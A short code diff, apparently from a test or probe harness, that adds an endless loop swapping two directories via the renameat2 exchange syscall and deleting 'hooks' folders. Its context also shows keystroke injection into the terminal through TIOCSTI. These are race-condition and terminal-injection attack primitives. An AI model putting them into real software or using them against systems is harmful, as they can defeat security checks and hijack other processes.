@@ -139,6 +139,20 @@ def memory_of(mebibytes):
     time.sleep(HOLD)
 
 
+def swap(one, other):
+    """Exchanges two directories for ever, and removes what somebody made in either."""
+    here, exchange = -100, 2
+    paths = one.encode(), other.encode()
+    while True:
+        for _ in range(64):
+            libc.syscall(316, here, paths[0], here, paths[1], exchange)
+        for path in one, other:
+            try:
+                os.rmdir(path + "/hooks")
+            except OSError:
+                pass
+
+
 def queue_input(_):
     for byte in b"touch":
         fcntl.ioctl(0, termios.TIOCSTI, bytes([byte]))
